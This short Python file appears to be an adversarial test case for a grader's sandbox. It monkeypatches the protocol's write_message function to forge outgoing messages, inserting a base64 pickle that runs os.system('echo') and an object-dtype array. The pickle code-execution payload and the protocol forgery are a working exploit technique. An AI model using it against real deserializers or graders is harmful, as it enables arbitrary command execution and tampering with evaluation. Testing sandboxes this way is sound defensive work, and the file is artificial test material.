"""Smuggles a pickled object into the runner as a constant."""

# no twin
# trick
import grader.sandbox.protocol as protocol

honest = protocol.write_message

def change(plan):
    plan["functions"][0]["names"]["x"] = {"kind": "pickle", "data": "Y29zCnN5c3RlbQooUydlY2hvJwp0Ui4="}
    plan["functions"][0]["names"]["y"] = {"kind": "array", "dtype": "O", "shape": [1], "scalar": False, "data": "AAAA"}

def forged(descriptor, message):
    for plan in message.header.get("plans", ()):
        change(plan)
    honest(descriptor, message)

protocol.write_message = forged
# end
